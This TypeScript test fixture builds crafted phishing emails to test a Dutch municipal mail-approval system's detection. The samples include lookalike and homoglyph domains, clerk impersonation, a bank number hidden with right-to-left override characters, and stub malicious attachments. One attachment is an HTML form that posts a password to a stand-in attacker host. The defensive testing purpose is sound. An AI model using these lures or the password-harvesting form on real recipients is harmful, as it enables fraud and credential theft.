/**
 * Crafted hostile letters, one per way of walking around the approval step (issue "What the griffier approves is
 * exactly what the raadsleden receive"). Written for these tests; every name, domain and text is made up. Each is a
 * complete raw message composed with nodemailer's MailComposer, sent through the local SMTP intake by the tests.
 */
import MailComposer from 'nodemailer/lib/mail-composer';
import type { RiskCode } from '../../shared/domain/risks.js';

export interface AttackLetter {
  readonly name: string;
  readonly raw: Buffer;
  readonly envelope: { readonly from: string; readonly to: readonly string[] };
  readonly subject: string;
  /** The risks Raadspost must name. */
  readonly risks: readonly RiskCode[];
  /** Whether it must be offered for approval at all (loops never are). */
  readonly offered: boolean;
  /** Attachments that may go to the raadsleden (all others must stay home). */
  readonly forwardable: readonly string[];
  /** Something the page must show so the griffier sees the trick. */
  readonly pageShows: readonly string[];
}

const GRIFFIE = 'griffie@heemstede.nl';
const MINIMAL_PDF = Buffer.from(
  '%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj 3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n',
  'latin1',
);

const LETTER_OPENING = [
  'Geachte leden van de gemeenteraad,',
  '',
  'Namens de bewonersvereniging Oude Dorp vragen wij u aandacht voor het plan om de speeltuin aan de Schoolstraat te verplaatsen.',
  'Wij verzoeken de griffie deze brief door te sturen aan alle raadsleden.',
].join('\n');

const compose = async (
  name: string,
  options: {
    from: string;
    subject: string;
    text?: string;
    html?: string;
    headers?: Record<string, string>;
    attachments?: { filename: string; content: Buffer; contentType: string; contentDisposition?: 'inline' | 'attachment' }[];
  },
): Promise<Buffer> =>
  new MailComposer({
    from: options.from,
    to: GRIFFIE,
    subject: options.subject,
    ...(options.text !== undefined && { text: options.text }),
    ...(options.html && { html: options.html }),
    date: new Date('2026-03-02T09:00:00Z'),
    messageId: `<${name}@attack.test>`,
    headers: options.headers ?? {},
    attachments: options.attachments ?? [],
  })
    .compile()
    .build();

const envelopeFrom = (from: string) => /<([^>]+)>/.exec(from)?.[1] ?? from;

const letter = async (
  name: string,
  spec: Omit<AttackLetter, 'name' | 'raw' | 'envelope' | 'subject'> & Parameters<typeof compose>[1],
): Promise<AttackLetter> => ({
  name,
  raw: await compose(name, spec),
  envelope: { from: envelopeFrom(spec.from), to: [GRIFFIE] },
  subject: spec.subject,
  risks: spec.risks,
  offered: spec.offered,
  forwardable: spec.forwardable,
  pageShows: spec.pageShows,
});

/** Every attack, each a letter that the classifier offers for forwarding unless the attack is a loop. */
export async function attackLetters(): Promise<AttackLetter[]> {
  return Promise.all([
    letter('quoted-link', {
      from: 'Bewonersvereniging Oude Dorp <bestuur@oudedorp-bewoners.nl>',
      subject: 'Brief aan de raad: speeltuin Schoolstraat (quoted)',
      text: `${LETTER_OPENING}\n\nMet vriendelijke groet,\nhet bestuur\n\n> Op 1 maart schreef de griffie:\n> Log in op https://raad-heemstede.evil.example/login om uw brief te registreren.`,
      risks: [],
      offered: true,
      forwardable: [],
      pageShows: ['&gt; Log in op https://raad-heemstede.evil.example/login', '<span class="host">raad-heemstede.evil.example</span>'],
    }),
    letter('late-link', {
      from: 'Bewonersvereniging Oude Dorp <bestuur@oudedorp-bewoners.nl>',
      subject: 'Brief aan de raad: speeltuin Schoolstraat (late link)',
      text: `${LETTER_OPENING}\n\n${'Wij hebben de buurt gesproken en de bezwaren verzameld. '.repeat(20)}\n\nDe handtekeningen staan op https://petitie-oudedorp.example.com/teken?ref=raad\n\nMet vriendelijke groet,\nhet bestuur`,
      risks: [],
      offered: true,
      forwardable: [],
      pageShows: ['<span class="host">petitie-oudedorp.example.com</span>'],
    }),
    letter('link-beside-pdf', {
      from: 'Bewonersvereniging Oude Dorp <bestuur@oudedorp-bewoners.nl>',
      subject: 'Brief aan de raad: speeltuin Schoolstraat (pdf)',
      text: 'Geachte raad, onze brief zit in de bijlage. Graag doorsturen aan de raadsleden. Zie ook https://oudedorp-bewoners.nl.example.org/stukken',
      attachments: [{ filename: 'Brief aan de gemeenteraad.pdf', content: MINIMAL_PDF, contentType: 'application/pdf' }],
      risks: [],
      offered: true,
      forwardable: ['Brief aan de gemeenteraad.pdf'],
      pageShows: ['<span class="host">oudedorp-bewoners.nl.example.org</span>', 'Brief aan de gemeenteraad.pdf'],
    }),
    letter('dangerous-attachments', {
      from: 'Bewonersvereniging Oude Dorp <bestuur@oudedorp-bewoners.nl>',
      subject: 'Brief aan de raad: speeltuin Schoolstraat (bijlagen)',
      text: `${LETTER_OPENING}\n\nDe brief en de bijlagen vindt u hierbij.\n\nMet vriendelijke groet,\nhet bestuur`,
      attachments: [
        { filename: 'Brief aan de raad.pdf', content: MINIMAL_PDF, contentType: 'application/pdf' },
        { filename: 'Begroting speeltuin.docm', content: Buffer.from('PK\x03\x04 word/vbaProject.bin', 'latin1'), contentType: 'application/vnd.ms-word.document.macroEnabled.12' },
        { filename: 'Inloggen raadsinformatie.html', content: Buffer.from('<html><form action="https://evil.example/p"><input type="password" name="pw"></form></html>'), contentType: 'text/html' },
        { filename: 'Handtekeningen.pdf.lnk', content: Buffer.from('L\x00\x00\x00\x01\x14\x02\x00', 'latin1'), contentType: 'application/octet-stream' },
        { filename: 'Plattegrond.exe', content: Buffer.from('MZ\x90\x00\x03\x00\x00\x00', 'latin1'), contentType: 'application/octet-stream' },
        { filename: 'Foto speeltuin.pdf', content: Buffer.from('MZ\x90\x00 pretending', 'latin1'), contentType: 'application/pdf' },
      ],
      risks: ['dangerous_attachment'],
      offered: true,
      forwardable: ['Brief aan de raad.pdf'],
      pageShows: ['Begroting speeltuin.docm', 'Niet doorgestuurd: Office-bestand dat macro’s kan bevatten', 'Handtekeningen.pdf.lnk', 'Plattegrond.exe', 'Niet doorgestuurd: de inhoud past niet bij de bestandsnaam'],
    }),
    letter('impersonation', {
      from: '"Griffie Heemstede" <griffie.heemstede@gmail.com>',
      subject: 'Brief aan de raad: verzoek om spoedige verspreiding',
      text: `${LETTER_OPENING}\n\nMet vriendelijke groet,\nGriffie Heemstede`,
      risks: ['impersonation'],
      offered: true,
      forwardable: [],
      pageShows: ['De afzender noemt zich &quot;Griffie Heemstede&quot;', 'de griffie (de afzender doet zich voor als de gemeente'],
    }),
    letter('lookalike-words', {
      from: 'Gemeente Heemstede Raadsinformatie <raad@heemstede-gemeente.nl>',
      subject: 'Brief aan de raad: nieuwe raadsinformatie',
      text: `${LETTER_OPENING}\n\nMet vriendelijke groet,\nhet bestuur`,
      risks: ['impersonation', 'lookalike_domain'],
      offered: true,
      forwardable: [],
      pageShows: ['heemstede-gemeente.nl, een nagemaakte variant van heemstede.nl'],
    }),
    letter('lookalike-homoglyph', {
      from: 'Bewonersvereniging Oude Dorp <bestuur@h\u0435emstede.nl>',
      subject: 'Brief aan de raad: speeltuin Schoolstraat (homoglyph)',
      text: `${LETTER_OPENING}\n\nMet vriendelijke groet,\nhet bestuur`,
      risks: ['lookalike_domain'],
      offered: true,
      forwardable: [],
      pageShows: ['met letters die er hetzelfde uitzien maar anders zijn dan in heemstede.nl'],
    }),
    letter('hidden-text', {
      from: 'Bewonersvereniging Oude Dorp <bestuur@oudedorp-bewoners.nl>',
      subject: 'Brief aan de raad\u200b: speeltuin\u2060 Schoolstraat',
      text: `\ufeff${LETTER_OPENING}\n\nBetaal de bijdrage op rekening NL\u202e10 BANK 0123\u202c 4567 89.\n\nMet vriendelijke groet,\nhet bestuur`,
      risks: ['hidden_text'],
      offered: true,
      forwardable: [],
      pageShows: ['<mark class="hidden-char">onzichtbaar teken</mark>'],
    }),
    letter('unsubscribe-footer', {
      from: 'Bewonersvereniging Oude Dorp <nieuws@oudedorp-bewoners.nl>',
      subject: 'Brief aan de raad: speeltuin Schoolstraat (nieuwsbriefdienst)',
      text: `${LETTER_OPENING}\n\nMet vriendelijke groet,\nhet bestuur\n\nU ontvangt dit bericht omdat u bent ingeschreven.\nAfmelden: https://mail.nieuwsbriefdienst.example.com/u/abc123`,
      headers: { 'List-Unsubscribe': '<https://mail.nieuwsbriefdienst.example.com/u/abc123>, <mailto:unsub-abc123@nieuwsbriefdienst.example.com>' },
      risks: [],
      offered: true,
      forwardable: [],
      pageShows: ['Uit de tekst gehaald, zodat geen raadslid de griffie per ongeluk afmeldt'],
    }),
    letter('link-read-on', {
      from: 'Bewonersvereniging Oude Dorp <bestuur@oudedorp-bewoners.nl>',
      subject: 'Brief aan de raad: speeltuin Schoolstraat (stukken)',
      text: `${LETTER_OPENING}\n\nDe stukken: https://raad.heemstede.nl%2estukken-oudedorp.example/inloggen en raad.heemstede.nl\u3002stukken-oudedorp.example\n\nMet vriendelijke groet,\nhet bestuur`,
      risks: ['lookalike_domain'],
      offered: true,
      forwardable: [],
      pageShows: ['<span class="host">raad.heemstede.nl.stukken-oudedorp.example</span>'],
    }),
    letter('network-path', {
      from: 'Bewonersvereniging Oude Dorp <bestuur@oudedorp-bewoners.nl>',
      subject: 'Brief aan de raad: speeltuin Schoolstraat (netwerkmap)',
      text: `${LETTER_OPENING}\n\nDe tekening staat op \\\\tekeningen.oudedorp-bewoners.example\\speeltuin\\ontwerp.pdf\n\nMet vriendelijke groet,\nhet bestuur`,
      risks: ['network_path'],
      offered: true,
      forwardable: [],
      pageShows: ['<span class="host">tekeningen.oudedorp-bewoners.example</span>', 'een verwijzing naar een bestand op een andere computer'],
    }),
    letter('link-in-subject', {
      from: 'Bewonersvereniging Oude Dorp <bestuur@oudedorp-bewoners.nl>',
      subject: 'Brief aan de raad: stukken staan op heemstede-raad.nl',
      text: `${LETTER_OPENING}\n\nMet vriendelijke groet,\nhet bestuur`,
      risks: ['lookalike_domain'],
      offered: true,
      forwardable: [],
      pageShows: ['<span class="host">heemstede-raad.nl</span> <span class="small">(in het onderwerp)</span>', 'Een link in het onderwerp gebruikt heemstede-raad.nl'],
    }),
    letter('many-links-then-one', {
      from: 'Bewonersvereniging Oude Dorp <bestuur@oudedorp-bewoners.nl>',
      subject: 'Brief aan de raad: speeltuin Schoolstraat (bronnen)',
      text: `${LETTER_OPENING}\n\nBronnen:\n${Array.from({ length: 320 }, (_, i) => `https://oudedorp-bewoners.nl/bron/${i}`).join('\n')}\nhttps://heemstede-gemeente.nl/raad\n\nMet vriendelijke groet,\nhet bestuur`,
      risks: ['lookalike_domain'],
      offered: true,
      forwardable: [],
      pageShows: ['<span class="host">heemstede-gemeente.nl</span>', 'En nog 21 links naar websites die hierboven al staan.'],
    }),
    letter('html-letter-beside-pdf', {
      from: 'Bewonersvereniging Oude Dorp <bestuur@oudedorp-bewoners.nl>',
      subject: 'Brief aan de raad: speeltuin Schoolstraat (html)',
      html: `<p>${LETTER_OPENING.replace(/\n\n/g, '</p><p>')}</p><p>Met vriendelijke groet,<br>het bestuur</p>`,
      attachments: [{ filename: 'Tekening.pdf', content: MINIMAL_PDF, contentType: 'application/pdf', contentDisposition: 'inline' }],
      risks: [],
      offered: true,
      forwardable: ['Tekening.pdf'],
      pageShows: ['Namens de bewonersvereniging Oude Dorp vragen wij u aandacht', 'Tekening.pdf'],
    }),
    letter('invisible-filler-name', {
      from: '"\u3164Bewonersvereniging\u2800Oude Dorp" <bestuur@oudedorp-bewoners.nl>',
      subject: 'Brief aan de raad: speeltuin Schoolstraat (naam)',
      text: `${LETTER_OPENING}\u3164\n\nMet vriendelijke groet,\nhet bestuur`,
      risks: ['hidden_text'],
      offered: true,
      forwardable: [],
      pageShows: ['<mark class="hidden-char">onzichtbaar teken</mark>', 'in de naam van de afzender'],
    }),
    letter('out-of-office-quoting-forward', {
      from: 'A. Raadslid <a.raadslid@ziggo.nl>',
      subject: 'Automatisch antwoord: 12. Brief aan de raad: speeltuin Schoolstraat',
      text: [
        'Ik ben afwezig tot 10 maart en lees mijn mail daarna.',
        '',
        '> Geachte raadsleden,',
        '> Hierbij ontvangt u een ingekomen stuk voor de gemeenteraad van Heemstede.',
        '> Nummer: 12',
        '> Kenmerk Raadspost: 0000aaaa-bbbb',
      ].join('\n'),
      headers: { 'Auto-Submitted': 'auto-replied' },
      risks: ['auto_submitted', 'own_mail_returned'],
      offered: false,
      forwardable: [],
      pageShows: [],
    }),
    letter('approval-mail-forwarded-back', {
      from: 'Collega Secretariaat <secretariaat@ziggo.nl>',
      subject: 'Fwd: Nieuwe brief voor de raad: speeltuin Schoolstraat',
      text: [
        'Geachte raad, zie hieronder, wilt u dit doorsturen aan de raadsleden?',
        '',
        '---------- Forwarded message ---------',
        'Bekijk en beslis:',
        `https://abc.lambda-url.eu-west-1.on.aws/?t=${'Q'.repeat(43)}`,
      ].join('\n'),
      risks: ['own_mail_returned'],
      offered: false,
      forwardable: [],
      pageShows: [],
    }),
  ]);
}
